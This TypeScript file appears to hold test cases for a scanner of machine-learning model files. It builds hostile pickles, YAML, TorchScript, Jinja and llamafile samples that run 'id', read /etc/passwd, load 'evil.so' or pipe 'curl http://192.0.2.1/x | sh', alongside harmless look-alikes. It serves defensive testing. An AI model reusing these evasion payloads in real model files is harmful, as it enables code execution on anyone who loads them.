/**
 * The reproductions that need no library to be made: pickles written by hand, Python, JSON, YAML and XML, and small files that other tests keep.
 * They are read, never run: `reality.test.ts` does so in `npm test`, `npm run reality` with all others (`cases.py`).
 */
import { createHash } from 'node:crypto';
import { deflateSync, gzipSync, inflateSync, zstdCompressSync } from 'node:zlib';
import { call, concat, global, op, pickle, tar, torchZip, value, zip } from '../../samples/assemble.mjs';
import { HOSTILE as COMPANIONS, WEIGHTS } from '../scan/companion-cases.js';
import networks from '../static/exchange/files.json' with { type: 'json' };
import tables from '../static/hdf5/pandas.json' with { type: 'json' };
import kerasModels from '../static/keras/models.json' with { type: 'json' };
import kept from '../static/pickle/harmless.json' with { type: 'json' };
import { FOUND } from '../static/python-source/variants.js';
import ofR from '../static/r/files.json' with { type: 'json' };

export interface PlainCase {
  readonly row: string;
  readonly name: string;
  readonly files: Readonly<Record<string, Uint8Array>>;
  /** What to scan: one of the files, or `.` for their folder. */
  readonly file: string;
  readonly verdicts: readonly string[];
  /** Words of `scripts/lib/expected.mjs`. */
  readonly expected: readonly string[];
}

const CASES: PlainCase[] = [];
export const PLAIN: readonly PlainCase[] = CASES;

type Content = string | Uint8Array;

const FOUND_VERDICTS = ['malicious', 'suspicious'];

function add(
  row: string,
  name: string,
  content: Content | Readonly<Record<string, Content>>,
  more: { file?: string; verdicts?: readonly string[]; expected?: readonly string[] },
): void {
  const alone = typeof content === 'string' || content instanceof Uint8Array;
  const file = more.file ?? (alone ? 'model.pkl' : '.');
  const files = alone ? { [file]: content } : content;
  CASES.push({
    row,
    name,
    files: Object.fromEntries(Object.entries(files).map(([path, bytes]) => [path, concat(bytes)])),
    file,
    verdicts: more.verdicts ?? ['clean'],
    expected: more.expected ?? [],
  });
}

function harmless(row: string, name: string, content: Parameters<typeof add>[2], file?: string): void {
  add(row, name, content, file === undefined ? {} : { file });
}

/** `expected`: rules that have to show, `RULE*` for a family. */
function hostile(row: string, name: string, content: Parameters<typeof add>[2], expected: string, file?: string): void {
  add(row, name, content, {
    ...(file === undefined ? {} : { file }),
    expected: expected.split(' '),
    verdicts: FOUND_VERDICTS,
  });
}

function keptIn(files: Readonly<Record<string, string>>, name: string): Buffer {
  const content = files[name];
  if (content === undefined) throw new Error(`There is no ${name}.`);
  return Buffer.from(content, 'base64');
}

function companion(row: string, ...names: readonly string[]): void {
  for (const name of names) {
    const [, files] = COMPANIONS.find(([what]) => what === name) ?? [];
    if (!files) throw new Error(`There is no ${name} in test/scan/companion-cases.ts.`);
    add(row, name, files, { verdicts: FOUND_VERDICTS, expected: ['STATIC-*'] });
  }
}

/** Each module in a file that a loader imports. */
function sources(row: string, names: readonly string[]): void {
  for (const name of names) {
    const [, source] = FOUND.find(([what]) => what === name) ?? [];
    if (source === undefined) throw new Error(`There is no ${name} in test/static/python-source/variants.ts.`);
    hostile(row, `${name}, in a handler`, beside({ 'handler.py': `${source}\n` }), 'STATIC-*');
    const config = JSON.stringify({ model_type: 'x', auto_map: { AutoModel: 'own.Net' } });
    hostile(
      row,
      `${name}, in the code of a model`,
      beside({ 'config.json': config, 'own.py': `${source}\n` }),
      'STATIC-*',
    );
  }
}

function beside(files: Readonly<Record<string, Content>>): Record<string, Content> {
  return { 'model.pkl': WEIGHTS, ...files };
}

const base64 = (content: Uint8Array): string => Buffer.from(content).toString('base64');
const text = op.unicode;
const called = (module: string, name: string, ...args: readonly Uint8Array[]): Buffer =>
  pickle(call(global(module, name), ...args));
const SHELL = called('posix', 'system', text('id'));
const NUMBERS = pickle(value({ w: [0.5] }));
const ID = "__import__('os').system('id')";

// Harmless, accused -------------------------------------------------------------------------------------------------------

for (const name of ['objects', 'onehot', 'label', 'onehot2', 'nested2'])
  harmless('inner pickles of joblib', `kept: ${name}`, keptIn(kept, `sklearn/${name}.joblib`), 'model.joblib');
for (const name of ['arange-2', 'arange-0', 'linear-2'])
  harmless('tensors of protocol 2', `kept: ${name}`, keptIn(kept, `torch/${name}.pkl`));
for (const name of ['findall-0', 'str.split-3', 'path.name-2', 'dict.get-1'])
  harmless('bound methods', `kept: ${name}`, keptIn(kept, `bound/${name}.pkl`));
harmless('bound methods', 'a bound forward of torch', keptIn(kept, 'torch/bound-2.pkl'));
harmless(
  'bound methods',
  'str.split by getattr',
  called('builtins', 'getattr', global('builtins', 'str'), text('split')),
);
harmless(
  'bound methods',
  'a search of a compiled pattern by getattr',
  called('builtins', 'getattr', call(global('re', '_compile'), text('\\w+'), op.int(32)), text('findall')),
);

const stemmer = concat(
  global('nltk.stem.snowball', 'EnglishStemmer'),
  op.emptyTuple,
  op.newObj,
  value({ stopwords: [] }),
  op.build,
);
harmless(
  'bound methods',
  'a stemmer of nltk, which keeps a method of another',
  pickle(
    concat(
      ...[global('nltk.stem.snowball', 'SnowballStemmer'), op.emptyTuple, op.newObj, op.emptyDict, op.mark],
      ...[text('stemmer'), stemmer, op.binPut(1), text('stem')],
      ...[call(global('builtins', 'getattr'), op.binGet(1), text('stem')), op.setItems, op.build],
    ),
  ),
);

const STANDARD = 'functions of the standard library';
for (const [module, name] of [
  ['math', 'log'],
  ['heapq', 'nlargest'],
  ['_heapq', 'heappush'],
  ['copy', 'deepcopy'],
  ['collections.abc', 'Iterable'],
  ['typing', 'Optional'],
  ['operator', 'itemgetter'],
  ['urllib.parse', 'quote'],
] as const)
  harmless(STANDARD, `${module}.${name}`, pickle(value({ f: global(module, name) })));
harmless(STANDARD, 'what urlparse gives', keptIn(kept, 'standard/urlparse-4.pkl'));
harmless(STANDARD, 'nlargest of protocol 0', keptIn(kept, 'functions/heapq.nlargest-0.pkl'));

harmless(
  'cloudpickle under other names',
  'kept: numba.cloudpickle',
  keptIn(kept, 'by-value/numba.cloudpickle-closure.pkl'),
);
harmless('distcp and nested tensors', 'kept: .distcp', keptIn(kept, 'torch/dcp/__0_0.distcp'), '__0_0.distcp');
harmless('distcp and nested tensors', 'kept: a jagged tensor', keptIn(kept, 'torch/jagged-4.pkl'));

const range = Buffer.from(Array.from({ length: 200 }, (_, index) => index));
for (const [name, head] of [
  ['zlib', '\x78\x9c'],
  ['zlib, best', '\x78\xda'],
  ['gzip', '\x1f\x8b\x08'],
  ['bz2', 'BZh91AY&SY'],
  ['xz', '\xfd7zXZ\0'],
  ['zip', 'PK\x03\x04'],
  ['lz4', '\x04\x22\x4d\x18'],
] as const)
  harmless('bytes that look packed', name, pickle(value({ key: op.bytes(concat(head, range)) }), 3));
for (const protocol of [2, 4])
  harmless('bytes that look packed', `int64(376), ${protocol}`, keptIn(kept, `numpy/int64-376-${protocol}.pkl`));

for (const size of [4094, 4095, 5000, 100_000])
  harmless('long text of protocol 0', `STRING of ${size}`, `S'${'a'.repeat(size)}'\n.`);

const array = `\x93NUMPY\x01\0v\0{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }`.padEnd(127);
for (const module of ['joblib.numpy_pickle', 'sklearn.externals.joblib.numpy_pickle'])
  harmless(
    'old savers',
    `many files of ${module}`,
    {
      'model.pkl': pickle(
        concat(
          global(module, 'NDArrayWrapper'),
          ...[op.emptyTuple, op.newObj, value({ allow_mmap: true, filename: 'model.pkl_01.npy' }), op.build],
        ),
      ),
      'model.pkl_01.npy': concat(array, '\n', Buffer.alloc(8)),
    },
    'model.pkl',
  );
for (const module of ['dill.dill', 'dill._dill']) {
  /** A function of a module, as dill writes those of compiled modules. */
  const of = (home: string, name: string): Buffer =>
    call(global(module, '_get_attr'), call(global(module, '_import_module'), text(home)), text(name));
  const empty = [global('numpy', 'ndarray'), concat(op.int(0), op.tuple1), op.bytes(Buffer.from('b'))];
  harmless(
    'old savers',
    `an array by ${module}`,
    pickle(call(of('numpy.core.multiarray', '_reconstruct'), ...empty), 3),
  );
  hostile('old savers', `a command by ${module}`, pickle(call(of('os', 'system'), text('id'))), 'STATIC-PICKLE-EXEC');
}
for (const name of ['keras2-lambda.h5', 'keras2-lambda.keras'])
  // Its code travels with it, and is read: the finding says that it is there.
  add('old savers', `kept: ${name}`, keptIn(kerasModels, name), { file: name, verdicts: ['clean', 'suspicious'] });
harmless('names and packings of pickles', 'w2v.model', NUMBERS, 'w2v.model');
harmless(
  'names and packings of pickles',
  'to_pickle of pandas as .zst',
  keptIn(kept, 'pandas/to_pickle.pkl.zst'),
  'x.pkl.zst',
);
hostile(
  'names and packings of pickles',
  'a command as .zst',
  zstdCompressSync(SHELL),
  'STATIC-PICKLE-EXEC',
  'x.pkl.zst',
);
hostile('names and packings of pickles', 'a command in w2v.model', SHELL, 'STATIC-PICKLE-EXEC', 'w2v.model');

harmless('hexadecimal text', '78f9 and zeros', pickle(text(`78f9${'0'.repeat(28)}`)));
harmless(
  'hexadecimal text',
  '20,000 sums of MD5',
  pickle(value(Array.from({ length: 20_000 }, (_, number) => createHash('md5').update(String(number)).digest('hex')))),
);

const CACHE = '/root/.cache/huggingface/hub/models--x/snapshots/0';
const BERT = { model_type: 'bert', hidden_size: 8, architectures: ['BertModel'] };
for (const [name, content] of [
  ['config.json', { ...BERT, _name_or_path: CACHE }],
  ['adapter_config.json', { peft_type: 'LORA', base_model_name_or_path: CACHE }],
  [
    'tokenizer_config.json',
    { name_or_path: CACHE, tokenizer_class: 'BertTokenizer', tokenizer_file: `${CACHE}/t.json` },
  ],
] as const)
  harmless('paths of who saved it', name, beside({ [name]: JSON.stringify(content) }));

harmless(
  'hparams of Lightning',
  'hparams.yaml',
  beside({
    'hparams.yaml': [
      'root: !!python/object/apply:pathlib.PosixPath',
      '- /',
      '- data',
      'args: !!python/object:argparse.Namespace',
      '  lr: 0.1',
      "act: !!python/name:torch.nn.modules.activation.ReLU ''",
      '',
    ].join('\n'),
  }),
);
harmless(
  'hparams of Lightning',
  'a path as Python 3.13 names it',
  beside({ 'hparams.yaml': 'root: !!python/object/apply:pathlib._local.PosixPath\n- /\n- data\n' }),
);
hostile(
  'hparams of Lightning',
  'a command in hparams.yaml',
  beside({ 'hparams.yaml': 'x: !!python/object/apply:os.system ["id"]\n' }),
  'STATIC-*',
);

for (const [name, content] of [
  ['train.py', "import os, subprocess\nos.system('nvidia-smi')\nsubprocess.run(['ls'])\n"],
  ['run.sh', '#!/bin/sh\ncurl -L https://example.com/data.tgz | tar xz\npython train.py\n'],
  [
    'train.ipynb',
    JSON.stringify({
      cells: [
        {
          cell_type: 'code',
          source: ['!pip install torch\n', 'import os\n', "os.system('ls')"],
          outputs: [],
          metadata: {},
        },
      ],
      metadata: {},
      nbformat: 4,
      nbformat_minor: 5,
    }),
  ],
  ['requirements.txt', 'git+https://github.com/huggingface/transformers.git\ntorch\n'],
  ['environment.yml', 'dependencies:\n- python=3.11\n- pip:\n  - git+https://github.com/openai/CLIP.git\n'],
] as const)
  harmless('scripts beside a model', name, beside({ [name]: content }));

const WORDS = [
  '<script>alert(1)</script>',
  '/etc/passwd',
  'os.system',
  'subprocess.run(',
  'torch.save(',
  '{{ x.__class__ }}',
  '$(id)',
];
harmless(
  'words that look like code',
  'a pickled vocabulary',
  pickle(value(Object.fromEntries(WORDS.map((word, id) => [word, id])))),
);
harmless(
  'words that look like code',
  'vocab.json',
  beside({ 'vocab.json': JSON.stringify(Object.fromEntries(WORDS.map((word, id) => [word, id]))) }),
);
harmless(
  'words that look like code',
  'tokenizer.json',
  beside({
    'tokenizer.json': JSON.stringify({
      model: { type: 'BPE', vocab: Object.fromEntries(WORDS.map((word, id) => [word, id])), merges: ['< s'] },
      added_tokens: [{ id: 9, content: '<script>' }],
    }),
  }),
);

// Hostile, missed ---------------------------------------------------------------------------------------------------------

const PATCH = value({ compare_digest: global('builtins', 'callable') });
for (const [name, target] of [
  ['subimport of cloudpickle', call(global('cloudpickle.cloudpickle', 'subimport'), text('hmac'))],
  ['_import_module of dill', call(global('dill._dill', '_import_module'), text('hmac'))],
  ['getLogger', call(global('logging', 'getLogger'), text('x'))],
  ['import_module', call(global('importlib', 'import_module'), text('hmac'))],
] as const)
  hostile('patches of modules', name, pickle(concat(target, PATCH, op.build)), 'STATIC-PICKLE-PATCH');

const CALLS = 'calls of libraries';
for (const [module, name, ...args] of [
  ['six', 'exec_', text(ID)],
  ['torch.fx.graph_module', '_exec_with_source', text(ID), op.emptyDict],
  ['yaml', 'unsafe_load', text('!!python/object/apply:os.system ["id"]')],
  ['psutil', 'Popen', value(['id'])],
  ['sympy', 'sympify', text(ID)],
  ['jsonpickle', 'decode', text('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}')],
  ['numpy.testing._private.utils', 'measure', text(ID)],
  ['scipy._lib.decorator', 'FunctionMaker.create', text('f(x)'), text(ID), op.emptyDict],
  ['click', 'edit', op.none, text('id')],
  ['setuptools._distutils.spawn', 'spawn', value(['id'])],
  ['torch.utils.model_zoo', 'load_url', text('https://192.0.2.1/x.pth')],
  ['pandas.io.parsers.readers', 'read_csv', text('https://192.0.2.1/x.csv')],
] as const)
  hostile(CALLS, `${module}.${name}`, called(module, name, ...args), 'STATIC-PICKLE-*');
add(CALLS, 'a function that nobody knows', called('acme.tools', 'go', text('id')), {
  verdicts: ['inconclusive'],
  expected: ['STATIC-PICKLE-UNKNOWN-CALL', 'gap:does not know'],
});

hostile(
  'long text and ZF',
  'a long STRING before a command',
  `S'${'a'.repeat(5000)}'\n0cposix\nsystem\n(S'id'\ntR.`,
  'STATIC-PICKLE-EXEC',
);
hostile(
  'long text and ZF',
  'a command that is long',
  `cposix\nsystem\n(S'id #${'a'.repeat(5000)}'\ntR.`,
  'STATIC-PICKLE-EXEC',
);
/** joblib before 0.10: `ZF`, the length in hexadecimal in 19 places, and a stream of zlib. */
const zf = (content: Uint8Array): Buffer =>
  concat('ZF', `0x${content.length.toString(16)}`.padEnd(19), deflateSync(content));
hostile('long text and ZF', 'a command in ZF', zf(SHELL), 'STATIC-PICKLE-EXEC', 'model.joblib');
harmless('long text and ZF', 'numbers in ZF', zf(NUMBERS), 'model.joblib');

const POLICY = JSON.stringify({ policy_class: { ':type:': "<class 'abc.ABCMeta'>", ':serialized:': base64(SHELL) } });
hostile(
  'pickles in texts',
  'a model of stable-baselines3',
  zip([
    { name: 'data', data: Buffer.from(POLICY) },
    { name: 'pytorch_variables.pth', data: torchZip('archive', value({ w: [0.5] }), []) },
    { name: '_stable_baselines3_version', data: Buffer.from('2.3.0') },
  ]),
  'STATIC-PICKLE-EXEC',
  'ppo.zip',
);
companion('pickles in texts', 'a pickle in JSON', 'a pickle in YAML', 'a pickle in XML', 'binary in YAML');

/** The same bytes on every machine, of no format. */
const noise = Buffer.concat(
  Array.from({ length: 20 }, (_, number) => createHash('sha256').update(String(number)).digest()),
);
const integers = (...numbers: readonly number[]): Buffer => Buffer.from(new Int32Array(numbers).buffer);
const UNKNOWN: readonly (readonly [string, Uint8Array])[] = [
  ['Torch7', concat(integers(4, 1, 3), 'V 1', integers(17), 'torch.FloatTensor', Buffer.alloc(60))],
  ['msgpack', concat('\x82\xa1w\x93\xcb', noise)],
  ['random', concat('\x01\x02', noise)],
];
for (const [what, content] of UNKNOWN)
  for (const [how, packed, file] of [
    ['gzip', gzipSync(content), 'model.bin.gz'],
    ['zlib', deflateSync(content), 'model.bin.z'],
    ['zip', zip([{ name: 'model.bin', data: content, method: 8 }]), 'model.zip'],
    ['tar', tar([['model.bin', Buffer.from(content)]]), 'model.tar'],
    ['tar in gzip', gzipSync(tar([['model.bin', Buffer.from(content)]])), 'model.tar.gz'],
  ] as const)
    add('unknown content, packed', `${what} in ${how}`, packed, { file, verdicts: ['inconclusive'] });
for (const name of ['closure', 'call', 'delayed'])
  hostile(
    'unknown content, packed',
    `R in gzip: ${name}`,
    gzipSync(keptIn(ofR, `hostile/${name}.rds`)),
    'STATIC-R-*',
    'model.rds.gz',
  );

const NATIVE = 'libraries, promises, targets';
const network = keptIn(networks, 'harmless/openvino.xml').toString();
harmless(NATIVE, 'the network without it', network, 'openvino.xml');
hostile(
  NATIVE,
  'a library of OpenVINO',
  network.replace('<layer id="0"', '<layer library="../../evil.so" id="0"'),
  'STATIC-OPENVINO-LIBRARY',
  'openvino.xml',
);
hostile(
  NATIVE,
  'an operator of MXNet',
  JSON.stringify({
    ...(JSON.parse(keptIn(networks, 'harmless/net-symbol.json').toString()) as object),
    nodes: [
      { op: 'null', name: 'data', inputs: [] },
      { op: 'Custom', name: 'x', attrs: { op_type: 'evil' }, inputs: [[0, 0, 0]] },
    ],
  }),
  'STATIC-MXNET-*',
  'net-symbol.json',
);
for (const name of ['delayed', 'active', 'onLoad'])
  hostile(NATIVE, `R: ${name}`, keptIn(ofR, `hostile/${name}.rds`), 'STATIC-R-*', 'model.rds');
const shellHead = concat("MZqFpD='\n\n\0\x10' <<'tag'\nabc\ntag\n#'\"\n\ncurl http://192.0.2.1/x | sh\n\n\0");
hostile(
  NATIVE,
  'a llamafile with a shell in its head',
  concat(
    shellHead,
    Buffer.alloc(4096 - shellHead.length),
    zip([{ name: '.args', data: Buffer.from('-m\nmodel.gguf\n') }]),
  ),
  'STATIC-LLAMAFILE-*',
  'm.llamafile',
);
companion(NATIVE, 'a loader as a target', 'packages of MLflow');

sources('Python beside a model', [
  'a module by __import__ under a name',
  'getattr of builtins',
  'map',
  'a thread',
  'vars of a module',
  '__dict__ of a module',
]);
sources('Python by detours', [
  'a module through another',
  'a function of a library',
  'a decorator',
  'a class of Popen',
  'a partial that is called',
  'sys.modules',
  'the home folder',
]);

const BOMBS = 'memory bombs';
hostile(
  BOMBS,
  'bytearray',
  called('builtins', 'bytearray', op.long1(Buffer.from([0, 0, 0, 0, 0, 0x7f]))),
  'STATIC-PICKLE-*',
);
hostile(
  BOMBS,
  'operator.mul',
  called('operator', 'mul', text('a'), op.long1(Buffer.from([0, 0, 0, 0, 0, 0x7f]))),
  'STATIC-PICKLE-*',
);
hostile(
  BOMBS,
  'random.getrandbits',
  called('random', 'getrandbits', op.long1(Buffer.from([0, 0, 0, 0, 0, 0x7f]))),
  'STATIC-PICKLE-BOMB',
);
hostile(BOMBS, 'math.factorial', called('math', 'factorial', op.int(10 ** 9)), 'STATIC-PICKLE-BOMB');
harmless(BOMBS, 'a small bytearray', called('builtins', 'bytearray', op.int(64)));

for (const folder of [
  'node_modules/x',
  '.git',
  '.venv/lib',
  '__pycache__',
  '.ipynb_checkpoints',
  'a/'.repeat(66).slice(0, -1),
])
  hostile(
    'folders left out',
    folder.length > 40 ? '66 folders deep' : folder,
    { [`${folder}/model.pkl`]: SHELL, 'weights.pkl': NUMBERS },
    'STATIC-PICKLE-EXEC',
  );

companion(
  'code one folder away',
  'the script that loads, above',
  'the model code in src',
  'the model code above',
  'a loader of MLflow',
  'code of MLflow that something imports',
  'a model of MLflow that is code',
);

for (const [name, packed] of Object.entries(tables.hostile))
  hostile('objects in HDF5', name, inflateSync(Buffer.from(packed, 'base64')), 'STATIC-PICKLE-EXEC', 'm.h5');

for (const [name, body] of [
  ['parentheses', '_0 = (torch).from_file("/etc/passwd", False, 10)'],
  ['getattr', '_0 = getattr(torch, "from\\137file")("/etc/passwd", False, 10)'],
  [
    'a condition',
    'if bool(torch.gt(torch.sum(x), 3)):\n      _0 = torch.from_file("/etc/passwd", False, 10)\n    else:\n      pass',
  ],
] as const)
  hostile(
    'TorchScript by detours',
    name,
    zip([
      {
        name: 'm/data.pkl',
        data: pickle(concat(global('__torch__', 'M'), op.emptyTuple, op.newObj, op.emptyDict, op.build)),
      },
      { name: 'm/constants.pkl', data: pickle(op.emptyTuple) },
      { name: 'm/version', data: Buffer.from('3\n') },
      {
        name: 'm/code/__torch__.py',
        data: Buffer.from(
          `class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    ${body}\n    return x\n`,
        ),
      },
    ]),
    'STATIC-TORCHSCRIPT-*',
    'm.pt',
  );

for (const [name, template] of [
  [
    'a loop',
    "{% set ns = namespace(s='') %}{% for c in ['__cl', 'ass__'] %}{% set ns.s = ns.s ~ c %}{% endfor %}{{ x[ns.s] }}",
  ],
  ['an item', "{{ ''['__class__'] }}"],
  ['map', "{{ x|map(attribute='__class__') }}"],
  ['a date', "{% if strftime_now('%Y') > '2026' %}{{ x['__cl' ~ 'ass__'] }}{% endif %}"],
] as const) {
  hostile('Jinja by detours', `${name}, in a file`, beside({ 'chat_template.jinja': template }), 'STATIC-JINJA-*');
  hostile(
    'Jinja by detours',
    `${name}, in the tokenizer`,
    beside({ 'tokenizer_config.json': JSON.stringify({ chat_template: template }) }),
    'STATIC-JINJA-*',
  );
}

companion(
  'targets by detours',
  'a target under vocab',
  'a target under merges, in JSON',
  'an interpolated target',
  'a target interpolated deeper',
  'get_method',
  'get_object in JSON',
  'a target through an own library',
  'an expression of MONAI',
  'an expression of MONAI by __import__',
  'a row of YOLO',
  'an activation of YOLO',
);
companion(
  'skops, programs, configurations',
  'a function of skops, protocol 0',
  'a component of diffusers',
  'a route of sentence-transformers',
  'packages of MLflow, in a Python environment',
  'auto_map with letters of another script',
);
